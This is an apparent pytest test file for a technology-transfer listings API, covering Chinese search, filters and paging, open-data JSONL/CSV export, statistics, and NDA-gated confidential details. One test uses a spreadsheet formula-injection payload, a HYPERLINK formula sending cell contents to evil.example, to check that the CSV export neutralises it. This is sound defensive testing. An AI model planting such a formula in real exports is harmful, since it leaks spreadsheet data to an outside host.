"""Search, open data, statistics and confidential details over HTTP, on both databases."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import timedelta

from sqlalchemy import select

from listings.domain import ListingStatus
from listings.models import ConfidentialRead, Listing
from tests.helpers import announced_listing, assert_problem, create_listing, operator, register, verified

API = "/api/v1"

CATALOGUE = [
    ("固态锂电池制备方法", "new_energy", "transfer", "listed", 50_000_000, "invention_patent"),
    ("钠离子电池正极材料", "new_materials", "license", "auction", 8_000_000, "invention_patent"),
    (
        "基于深度学习的医学影像诊断软件",
        "electronic_information",
        "license",
        "negotiated",
        3_000_000,
        "software_copyright",
    ),
    ("抗肿瘤单克隆抗体药物", "biomedicine", "equity", "negotiated", 120_000_000, "invention_patent"),
    ("Solid-state battery thermal management", "new_energy", "transfer", "auction", 20_000_000, "utility_model"),
]


def body_for(title, field, deal_type, mode, price, ip_kind):
    deals = {
        "transfer": {"type": "transfer"},
        "license": {"type": "license", "term_months": 24},
        "equity": {"type": "equity", "company_name": "上海新药研发有限公司", "shares_bp": 2000},
    }
    asset = {"kind": ip_kind, "number": f"N-{title[:4]}", "title": title}
    if ip_kind in ("invention_patent", "utility_model"):
        asset["expires_on"] = "2040-01-01"
    return {
        "title": title,
        "summary": f"{title}。技术成熟，可产业化。",
        "field": field,
        "keywords": [],
        "maturity": 5,
        "ip_assets": [asset],
        "deal": deals[deal_type],
        "pricing": {"mode": mode, "asking_price": price, "appraised_value": price},
    }


async def seed(client, app):
    ops = await operator(client, app)
    seller = await verified(client, ops, "enterprise", name="上海新能科技有限公司")
    ids = {}
    for row in CATALOGUE:
        body = body_for(*row)
        created = await client.post(f"{API}/listings", json=body, headers=seller.headers)
        assert created.status_code == 201, created.text
        listing_id = created.json()["id"]
        await client.post(f"{API}/listings/{listing_id}/submit", headers=seller.headers)
        approved = await client.post(
            f"{API}/listings/{listing_id}/review", json={"decision": "approve"}, headers=ops.headers
        )
        assert approved.status_code == 200
        ids[row[0]] = listing_id
        app.state.clock.advance(timedelta(minutes=1))
    draft = await create_listing(client, seller, title="未公开的电池草稿")
    return ops, seller, ids, draft


async def titles(client, **params) -> list[str]:
    response = await client.get(f"{API}/listings", params=params)
    assert response.status_code == 200, response.text
    return [item["title"] for item in response.json()["items"]]


async def test_chinese_aware_search_with_filters_and_pages(client, app):
    ops, seller, ids, _ = await seed(client, app)
    # 电池 is a word inside 固态锂电池 and 钠离子电池; drafts never show.
    found = await titles(client, q="电池")
    assert set(found) == {"固态锂电池制备方法", "钠离子电池正极材料"}
    assert "未公开的电池草稿" not in found
    assert await titles(client, q="锂电池") == ["固态锂电池制备方法"]
    assert await titles(client, q="固态 电池") == ["固态锂电池制备方法"]
    assert await titles(client, q="BATTERY") == ["Solid-state battery thermal management"]
    assert await titles(client, q="医学影像") == ["基于深度学习的医学影像诊断软件"]
    assert await titles(client, q="上海新能科技") != []  # the seller's name is searchable
    assert await titles(client, q="量子计算") == []
    assert await titles(client, q="!!!") == []

    assert set(await titles(client, field="new_energy")) == {
        "固态锂电池制备方法",
        "Solid-state battery thermal management",
    }
    assert await titles(client, q="电池", deal_type="license") == ["钠离子电池正极材料"]
    assert await titles(client, pricing_mode="negotiated", deal_type="equity") == ["抗肿瘤单克隆抗体药物"]
    assert set(await titles(client, min_price=10_000_000, max_price=60_000_000)) == {
        "固态锂电池制备方法",
        "Solid-state battery thermal management",
    }
    assert await titles(client, ip_kind="software_copyright") == ["基于深度学习的医学影像诊断软件"]
    assert await titles(client, ip_kind="utility_model", q="battery") == ["Solid-state battery thermal management"]
    assert_problem(
        await client.get(f"{API}/listings", params={"min_price": 10, "max_price": 5}),
        422,
        "invalid-request",
        "max_price",
    )
    assert_problem(await client.get(f"{API}/listings", params={"cursor": "garbage"}), 422, "invalid-cursor", "cursor")
    assert_problem(await client.get(f"{API}/listings", params={"sort": "x"}), 400, "validation-error", "sort")

    # Newest first, page by page, every public listing exactly once.
    seen, cursor = [], None
    while True:
        params = {"order": "newest", "limit": 2, **({"cursor": cursor} if cursor else {})}
        page = (await client.get(f"{API}/listings", params=params)).json()
        seen += [i["title"] for i in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == [row[0] for row in reversed(CATALOGUE)]
    # Relevance pages as well.
    first = (await client.get(f"{API}/listings", params={"q": "电池", "limit": 1})).json()
    second = (
        await client.get(f"{API}/listings", params={"q": "电池", "limit": 1, "cursor": first["next_cursor"]})
    ).json()
    assert {first["items"][0]["title"], second["items"][0]["title"]} == {"固态锂电池制备方法", "钠离子电池正极材料"}
    assert second["next_cursor"] is None

    # Operators may search non-public states; the public sees none of them.
    assert await titles(client, status="draft") == []
    queue = await client.get(f"{API}/listings", params={"status": "draft"}, headers=ops.headers)
    assert [i["title"] for i in queue.json()["items"]] == ["未公开的电池草稿"]
    mine = await client.get(f"{API}/listings/mine", headers=seller.headers)
    assert len(mine.json()["items"]) == 6

    # An amendment is searchable at once.
    await client.patch(
        f"{API}/listings/{ids['钠离子电池正极材料']}", json={"title": "钠离子储能电池"}, headers=seller.headers
    )
    assert await titles(client, q="储能") == ["钠离子储能电池"]


def spreadsheet(response) -> list[dict[str, str]]:
    """The rows of a CSV export, which starts with the UTF-8 BOM that Excel needs."""
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


async def test_open_data_is_incremental_in_jsonl_and_csv(client, app):
    _, seller, ids, _ = await seed(client, app)
    first = await client.get(f"{API}/open-data/listings", params={"limit": 3})
    assert first.status_code == 200 and first.headers["content-type"].startswith("application/x-ndjson")
    rows = [json.loads(line) for line in first.text.splitlines()]
    assert len(rows) == 3 and all(r["public"] and r["status"] == "announced" for r in rows)
    assert "confidential_details" not in first.text
    cursor = first.headers["x-next-cursor"]
    rest = await client.get(f"{API}/open-data/listings", params={"since": cursor})
    rest_rows = [json.loads(line) for line in rest.text.splitlines()]
    assert {r["title"] for r in rows + rest_rows} == set(ids)  # every announced listing once, no draft
    caught_up = rest.headers["x-next-cursor"]
    assert (await client.get(f"{API}/open-data/listings", params={"since": caught_up})).text == ""

    # A change shows up after the cursor: the withdrawn listing as a tombstone.
    await client.post(f"{API}/listings/{ids['抗肿瘤单克隆抗体药物']}/withdraw", headers=seller.headers)
    changed = await client.get(f"{API}/open-data/listings", params={"since": caught_up, "format": "csv"})
    assert changed.headers["content-type"].startswith("text/csv")
    table = spreadsheet(changed)
    assert len(table) == 1
    assert table[0]["listing_id"] == ids["抗肿瘤单克隆抗体药物"]
    assert table[0]["status"] == "withdrawn" and table[0]["public"] == "False" and table[0]["title"] == ""
    full = spreadsheet(await client.get(f"{API}/open-data/listings?format=csv"))
    announced_row = next(r for r in full if r["title"] == "固态锂电池制备方法")
    assert announced_row["asking_price"] == "50000000" and announced_row["deal_type"] == "transfer"


async def test_annual_statistics_of_listings(client, app):
    await seed(client, app)
    stats = (await client.get(f"{API}/stats", params={"year": 2026})).json()
    figures = stats["listings"]
    assert stats["year"] == 2026 and figures["announced"] == 5
    assert figures["by_deal_type"] == {"transfer": 2, "license": 2, "equity": 1}
    assert figures["by_pricing_mode"] == {"negotiated": 2, "listed": 1, "auction": 2}
    assert figures["by_field"]["new_energy"] == 2 and figures["by_field"]["agriculture"] == 0
    assert figures["by_seller_kind"]["enterprise"] == 5
    assert [m["count"] for m in figures["by_month"]] == [0, 0, 5] + [0] * 9
    assert figures["asking_value"] == sum(row[4] for row in CATALOGUE)
    assert (await client.get(f"{API}/stats", params={"year": 2025})).json()["listings"]["announced"] == 0
    assert (await client.get(f"{API}/stats")).json()["year"] == 2026
    assert_problem(await client.get(f"{API}/stats", params={"year": 1999}), 400, "validation-error", "year")


async def test_confidential_details_need_an_nda_and_every_read_is_logged(client, app):
    ops = await operator(client, app)
    seller = await verified(client, ops)
    announced = await announced_listing(client, seller, ops)
    listing_id = announced["id"]
    assert announced["has_confidential_details"] is True
    public = await client.get(f"{API}/listings/{listing_id}")
    assert "Li7La3Zr2O12" not in public.text and "confidential_details" not in public.json()

    buyer = await verified(client, ops)
    url = f"{API}/listings/{listing_id}/confidential"
    assert_problem(await client.get(url, headers=buyer.headers), 403, "nda-required")
    unverified = await register(client)
    assert_problem(
        await client.post(f"{API}/listings/{listing_id}/nda", headers=unverified.headers), 403, "org-not-verified"
    )
    assert_problem(await client.post(f"{API}/listings/{listing_id}/nda", headers=seller.headers), 409, "conflict")
    nda = await client.post(f"{API}/listings/{listing_id}/nda", headers=buyer.headers)
    assert nda.status_code == 201 and nda.json()["user_id"] == buyer.user_id
    again = await client.post(f"{API}/listings/{listing_id}/nda", headers=buyer.headers)
    assert again.json()["accepted_at"] == nda.json()["accepted_at"]

    for party, basis in ((buyer, "nda"), (seller, "seller"), (ops, "operator")):
        shown = await client.get(url, headers=party.headers)
        assert shown.status_code == 200, shown.text
        assert shown.json()["access"] == basis
        assert shown.json()["confidential_details"].startswith("电解质配方: Li7La3Zr2O12")
    reads = await client.get(f"{API}/listings/{listing_id}/confidential/reads", headers=seller.headers)
    assert [r["basis"] for r in reads.json()["items"]] == ["nda", "seller", "operator"]
    assert_problem(
        await client.get(f"{API}/listings/{listing_id}/confidential/reads", headers=buyer.headers), 403, "forbidden"
    )
    async with app.state.db.read() as session:
        assert len((await session.scalars(select(ConfidentialRead))).all()) == 3
        stored = await session.scalar(
            select(Listing.confidential_ciphertext).where(Listing.id == uuid.UUID(listing_id))
        )
    for fragment in ("电解质配方", "Li7La3Zr2O12", "1150"):
        assert fragment.encode() not in stored
    # A seller may change or clear the details.
    cleared = await client.patch(
        f"{API}/listings/{listing_id}", json={"confidential_details": None}, headers=seller.headers
    )
    assert cleared.json()["has_confidential_details"] is False
    assert (await client.get(url, headers=buyer.headers)).json()["confidential_details"] is None


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "+86 21 5555 0000", "-1+1", "@SUM(1,2)"]
# Titles are stored trimmed; a summary keeps its leading tab or carriage return.
SUMMARIES = ["=1+1 技术成熟。", "\t固态电池。", "\r钠电池。", "-2 技术成熟。"]


async def test_open_data_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(client, app):
    ops = await operator(client, app)
    seller = await verified(client, ops, "enterprise", name="@上海新能科技有限公司")
    for n, (title, summary) in enumerate(zip(FORMULAS, SUMMARIES, strict=True)):
        await announced_listing(client, seller, ops, title=title, keywords=[f"-k{n}"], summary=summary)
    exported = await client.get(f"{API}/open-data/listings", params={"format": "csv"})
    assert exported.status_code == 200
    table = spreadsheet(exported)
    assert sorted(r["title"] for r in table) == sorted("'" + t for t in FORMULAS)
    assert sorted(r["summary"] for r in table) == sorted("'" + s for s in SUMMARIES)
    assert {r["seller_name"] for r in table} == {"'@上海新能科技有限公司"}
    assert all(r["keywords"].startswith("'-k") for r in table)
    # Numbers the export writes itself stay numbers.
    assert {r["asking_price"] for r in table} == {"50000000"} and all(r["cursor"].isdigit() for r in table)
    # The JSON lines carry the text as it was written.
    jsonl = await client.get(f"{API}/open-data/listings")
    assert sorted(json.loads(line)["title"] for line in jsonl.text.splitlines()) == sorted(FORMULAS)


async def every_page(client, **params) -> tuple[list[str], int]:
    """The titles of every page of a search in order, two at a time, and the total it reported."""
    seen, cursor, totals = [], None, set()
    while True:
        query = {"limit": 2, "count": "true", **params, **({"cursor": cursor} if cursor else {})}
        response = await client.get(f"{API}/listings", params=query)
        assert response.status_code == 200, response.text
        page = response.json()
        seen += [i["title"] for i in page["items"]]
        totals.add(page["total"])
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert len(totals) == 1  # every page counts the same matches
    return seen, totals.pop()


async def test_licence_scope_maturity_seller_kind_orders_and_total(client, app):
    ops, _, ids, _ = await seed(client, app)
    university = await verified(client, ops, "university", name="东海理工大学")
    exclusive = body_for("全固态电池界面改性技术", "new_energy", "license", "listed", 9_000_000, "invention_patent")
    exclusive["deal"]["scope"] = "exclusive"
    exclusive["maturity"] = 8
    created = await client.post(f"{API}/listings", json=exclusive, headers=university.headers)
    await client.post(f"{API}/listings/{created.json()['id']}/submit", headers=university.headers)
    approved = await client.post(
        f"{API}/listings/{created.json()['id']}/review", json={"decision": "approve"}, headers=ops.headers
    )
    assert approved.status_code == 200, approved.text

    # A licence's scope is in its deal terms: transfers and equity have none.
    assert await titles(client, license_scope="exclusive") == ["全固态电池界面改性技术"]
    assert set(await titles(client, license_scope="non_exclusive")) == {
        "钠离子电池正极材料",
        "基于深度学习的医学影像诊断软件",
    }
    assert await titles(client, license_scope="sole") == []
    assert await titles(client, min_maturity=6) == ["全固态电池界面改性技术"]
    assert await titles(client, seller_kind="university") == ["全固态电池界面改性技术"]
    assert await titles(client, seller_kind="enterprise", q="全固态") == []
    assert await titles(client, seller_org_id=university.org_id) == ["全固态电池界面改性技术"]
    assert_problem(await client.get(f"{API}/listings", params={"min_maturity": 10}), 400, "validation-error")
    assert_problem(await client.get(f"{API}/listings", params={"seller_kind": "bank"}), 400, "validation-error")

    # The total counts every match, not the page; only when asked for.
    plain = (await client.get(f"{API}/listings", params={"limit": 1})).json()
    assert plain["total"] is None
    counted = (await client.get(f"{API}/listings", params={"limit": 1, "q": "电池", "count": "true"})).json()
    assert len(counted["items"]) == 1 and counted["total"] == 3
    assert (await client.get(f"{API}/listings", params={"q": "量子计算", "count": "true"})).json()["total"] == 0

    prices = {row[0]: row[4] for row in CATALOGUE} | {"全固态电池界面改性技术": 9_000_000}
    # Price orders page by keyset: every listing once, in price order, ties broken by id.
    ascending, total = await every_page(client, order="price_asc")
    assert total == 6 and ascending == sorted(prices, key=prices.__getitem__)
    descending, _ = await every_page(client, order="price_desc")
    assert descending == sorted(prices, key=prices.__getitem__, reverse=True)
    battery, total = await every_page(client, order="price_desc", q="电池")
    assert total == 3 and battery == ["固态锂电池制备方法", "全固态电池界面改性技术", "钠离子电池正极材料"]

    # Closing: running announcements soonest to close first, then the others, latest period end first.
    base = app.state.clock.now()
    ends = {
        "固态锂电池制备方法": (ListingStatus.ANNOUNCED, timedelta(days=9)),
        "钠离子电池正极材料": (ListingStatus.ANNOUNCED, timedelta(days=2)),
        "基于深度学习的医学影像诊断软件": (ListingStatus.SOLD, timedelta(days=-30)),
        "抗肿瘤单克隆抗体药物": (ListingStatus.UNSOLD, timedelta(days=-3)),
        "Solid-state battery thermal management": (ListingStatus.ANNOUNCED, timedelta(days=2)),
    }

    async def set_periods(session):
        for title, (status, delta) in ends.items():
            row = await session.scalar(select(Listing).where(Listing.id == uuid.UUID(ids[title])))
            row.status, row.closes_at = status.value, base + delta

    await app.state.db.transaction(set_periods)
    closing, total = await every_page(client, order="closing")
    tie = sorted(["钠离子电池正极材料", "Solid-state battery thermal management"], key=lambda t: ids[t])
    # The new licence's period (20 working days) ends after the others'; a tie goes by id.
    assert closing == [
        *tie,
        "固态锂电池制备方法",
        "全固态电池界面改性技术",
        "抗肿瘤单克隆抗体药物",
        "基于深度学习的医学影像诊断软件",
    ]
    assert total == 6
    assert_problem(
        await client.get(f"{API}/listings", params={"order": "price_asc", "cursor": plain["next_cursor"]}),
        422,
        "invalid-cursor",
        "cursor",
    )
